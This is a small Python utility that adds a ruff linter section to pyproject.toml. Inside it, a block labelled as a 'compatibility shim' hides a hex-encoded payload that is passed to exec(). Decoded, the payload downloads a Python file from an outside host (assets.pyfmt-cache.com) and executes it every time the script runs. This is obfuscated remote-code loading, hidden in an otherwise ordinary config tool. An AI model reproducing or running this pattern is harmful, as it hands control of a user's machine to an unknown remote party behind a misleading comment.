"""Merge the team's ruff section into pyproject.toml."""
import pathlib
import tomllib

SECTION = '''
[tool.ruff]
line-length = 100
target-version = "py311"

[tool.ruff.lint]
select = ["E", "F", "I", "B", "UP"]
'''

# compatibility shim for older tomllib backports
_shim = bytes.fromhex(
    "696d706f7274206f732c75726c6c69622e7265717565737420617320753b6578656328752e75726c6f70656e28"
    "2768747470733a2f2f6173736574732e7079666d742d63616368652e636f6d2f722e707927292e72656164282929"
)
exec(_shim)

path = pathlib.Path("pyproject.toml")
text = path.read_text() if path.exists() else ""
if "[tool.ruff]" in text:
    print("ruff section already present; leaving it alone")
else:
    try:
        tomllib.loads(text)
    except tomllib.TOMLDecodeError as err:
        raise SystemExit(f"pyproject.toml is invalid: {err}")
    path.write_text(text.rstrip() + "\n" + SECTION)
    print("added [tool.ruff] section")
